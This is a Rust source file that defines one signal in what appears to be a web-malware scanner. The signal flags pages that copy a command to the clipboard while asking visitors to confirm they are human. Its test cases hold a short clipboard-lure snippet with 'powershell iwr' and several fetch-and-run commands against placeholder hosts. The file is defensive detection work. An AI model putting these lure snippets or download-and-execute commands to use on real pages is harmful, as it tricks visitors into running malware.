//! `command-copied-as-check`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "command-copied-as-check",
    description: "The script puts a command on the visitor's clipboard while the page asks visitors to confirm they are human.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::Interpreter, Atom::PlainCommand, Atom::StealthyCommand]),
        one(&[Atom::CopyCall]),
        one(&[Atom::HumanCheck]),
    ],
    within: 800,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"h.innerHTML='Verify you are human';navigator.clipboard.writeText('powershell iwr a.invalid')"#,
        ],
        without: &[
            r#"const cmds={windows:'winget install Example.Tool',linux:'curl -fsSL https://example.test/install.sh | sh'};copy.onclick=()=>navigator.clipboard.writeText(cmds[os.value])"#,
            r#"var c='powershell -ExecutionPolicy ByPass -c \"irm https://example.test/install.ps1 | iex\"';b.onclick=()=>navigator.clipboard.writeText(c)"#,
            r#"p.onclick=()=>navigator.clipboard.writeText(pre.innerText)"#,
            r#"box.textContent='I am not a robot';b.onclick=()=>navigator.clipboard.writeText(link.href)"#,
        ],
    },
};
